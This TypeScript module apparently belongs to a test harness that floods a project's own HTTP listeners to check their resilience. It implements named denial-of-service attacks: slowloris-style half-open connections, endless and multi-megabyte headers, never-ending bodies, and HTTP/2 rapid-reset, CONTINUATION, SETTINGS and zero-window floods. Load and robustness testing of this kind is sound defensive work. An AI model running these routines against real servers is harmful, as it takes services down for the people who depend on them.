/**
 * Attacks on the HTTP listeners, over HTTP/1.1 and over HTTP/2 without TLS.
 *
 * @module
 */
import { type Attack, each, streams } from "./frame_attacks.ts";
import {
  concat,
  type Field,
  frame,
  headerBlock,
  headersFrame,
  INITIAL_WINDOW_SIZE,
  repeated,
  resetFrame,
  settingsFrame,
  TYPE,
} from "./frames.ts";
import { again, open, openFrom, pour, type Scene, type Wire } from "./wire.ts";

/** A host that is not this machine's name, as clients elsewhere use. */
const GET = new TextEncoder().encode("GET /metrics HTTP/1.1\r\nHost: mesh.test\r\n\r\n");

function* endless(piece: Uint8Array): Generator<Uint8Array> {
  for (;;) yield piece;
}

/** Opens connections over HTTP/1.1 until the time is over, one after the other. */
async function untilOver(
  scene: Scene,
  read: boolean,
  act: (wire: Wire) => Promise<void>,
): Promise<void> {
  while (!scene.over()) {
    const wire = await open(scene, { read }).catch(() => undefined);
    if (!wire) continue;
    scene.begun();
    await act(wire);
    await Promise.race([wire.gone, scene.end]);
  }
}

/** Requests one behind the other on one connection, of which no answer is read. */
const pipelined: Attack = (scene) =>
  untilOver(scene, false, (wire) => pour(wire, endless(repeated(GET, 500))));

/** The same with reading. */
const pipelinedRead: Attack = (scene) =>
  untilOver(scene, true, (wire) => pour(wire, endless(repeated(GET, 500))));

/** Connections that are kept alive after one request each. */
const keptAlive: Attack = async (scene) => {
  for (let i = 0; i < 520 && !scene.over(); i++) {
    const wire = await open(scene, { read: true });
    await wire.write(GET);
  }
  scene.begun();
  await scene.end;
};

/** Connections that {@link openAll} opens, and how many of them at the same time. */
const ALL = 10_000;
const AT_ONCE = 16;
/** Time for which the attack goes on after all connections were opened, milliseconds. */
const HOLD_MS = 300;

/** Opens 10,000 connections and holds them. `act` opens the i-th one. The attack ends by itself. */
async function openAll(scene: Scene, act: (i: number) => Promise<void>): Promise<void> {
  let opened = 0;
  await Promise.all(Array.from({ length: AT_ONCE }, async () => {
    while (opened < ALL && !scene.over()) {
      const i = opened++;
      await act(i);
      if (i === 500) scene.begun();
    }
  }));
  await new Promise((resolve) => setTimeout(resolve, HOLD_MS));
}

/** Connections whose request never comes to its end. */
const halfOpen: Attack = (scene) => {
  const begun = GET.subarray(0, GET.length - 2);
  return openAll(scene, async () => {
    const wire = await open(scene).catch(() => undefined);
    await wire?.write(begun);
  });
};

/** The same with 60 KB of headers each, from many addresses. */
const largeHalfOpen: Attack = (scene) => {
  const begun = concat(
    GET.subarray(0, GET.length - 2),
    new TextEncoder().encode(`x: ${"y".repeat(60_000)}`),
  );
  return openAll(scene, async (i) => {
    const wire = await openFrom(scene, `127.0.1.${1 + i % 250}`);
    void wire.write(begun);
  });
};

/** Connections that are opened and closed as fast as possible. */
const manyConnections: Attack = async (scene) => {
  await Promise.all(Array.from({ length: 8 }, async () => {
    while (!scene.over()) {
      const wire = await open(scene).catch(() => undefined);
      wire?.close();
      if (scene.counts.connections > 1000) scene.begun();
    }
  }));
};

/** Headers that never end. */
const endlessHeaders: Attack = (scene) =>
  untilOver(scene, true, async (wire) => {
    await wire.write(GET.subarray(0, GET.length - 2));
    await pour(wire, endless(new TextEncoder().encode(`x: ${"y".repeat(8000)}\r\n`)));
  });

/** A header of 3 MB, on one connection after the other. */
const largeHeader: Attack = (scene) =>
  untilOver(scene, true, async (wire) => {
    await wire.write(GET.subarray(0, GET.length - 2));
    await wire.write(new TextEncoder().encode(`x: ${"y".repeat(3_000_000)}\r\n\r\n`));
  });

/** Connections with an answer each that is not read. */
const unreadAnswers: Attack = async (scene) => {
  for (let i = 0; i < 1000 && !scene.over(); i++) {
    const wire = await open(scene).catch(() => undefined);
    await wire?.write(GET);
    if (i === 100) scene.begun();
  }
  await scene.end;
};

/** Bodies that never end, and of which most listeners want none. */
const endlessBodies: Attack = (scene) =>
  untilOver(scene, true, async (wire) => {
    const head =
      "POST /debug/whatif HTTP/1.1\r\nHost: localhost\r\nContent-Length: 900000000\r\n\r\n";
    await wire.write(new TextEncoder().encode(head));
    await pour(wire, endless(new Uint8Array(60_000).fill(0x20)));
  });

const FIELDS: readonly Field[] = [
  [":method", "GET"],
  [":scheme", "http"],
  [":path", "/metrics"],
  [":authority", "mesh.test"],
];
const REQUEST = headerBlock(FIELDS);
const PING = frame(TYPE.ping, 0, 0, new Uint8Array(8));

/** Requests over HTTP/2 that are reset at once. */
const rapidReset: Attack = (scene) =>
  again(
    scene,
    { read: true },
    (wire) => pour(wire, each((id) => concat(headersFrame(id, REQUEST, true), resetFrame(id)))),
  );

/** Requests over HTTP/2 whose answers may not be sent. */
const closedWindows: Attack = (scene) =>
  again(
    scene,
    { read: true, settings: [[INITIAL_WINDOW_SIZE, 0]] },
    (wire) => pour(wire, each((id) => headersFrame(id, REQUEST, true), streams(1, 100_000))),
  );

/** Requests over HTTP/2 without an end, with headers as large as they may be. */
const largeLists: Attack = (scene) =>
  again(scene, { read: true }, (wire) => {
    const block = headerBlock([...FIELDS, ["x", "y".repeat(15_000)]]);
    return pour(wire, each((id) => headersFrame(id, block)));
  });

/** Frames of HTTP/2 that are to be answered; nothing is read. */
function unread(piece: Uint8Array): Attack {
  return (scene) => again(scene, {}, (wire) => pour(wire, endless(repeated(piece, 100))));
}

/** An endless header block. */
const continuations: Attack = (scene) =>
  again(scene, { read: true }, async (wire) => {
    await wire.write(frame(TYPE.headers, 0, 1, REQUEST));
    await pour(wire, endless(frame(TYPE.continuation, 0, 1, new Uint8Array(16_384))));
  });

/** Frames on 50 connections at once, whose answers are read. */
function flood(pieces: () => Iterable<Uint8Array>): Attack {
  return async (scene) => {
    const connection = () => again(scene, { read: true }, (wire) => pour(wire, pieces()));
    await Promise.all(Array.from({ length: 50 }, connection));
  };
}

/** Attacks by name. */
export const HTTP_ATTACKS: Readonly<Record<string, Attack>> = {
  pipelined,
  pipelinedRead,
  keptAlive,
  halfOpen,
  largeHalfOpen,
  manyConnections,
  endlessHeaders,
  largeHeader,
  unreadAnswers,
  endlessBodies,
  h2RapidReset: rapidReset,
  h2ClosedWindows: closedWindows,
  h2LargeLists: largeLists,
  h2UnreadPings: unread(PING),
  h2HeadersFlood: flood(() => each((id) => headersFrame(id, REQUEST, true))),
  h2SettingsFlood: flood(() =>
    endless(repeated(settingsFrame([[INITIAL_WINDOW_SIZE, 1000]]), 100))
  ),
  h2Continuations: continuations,
};
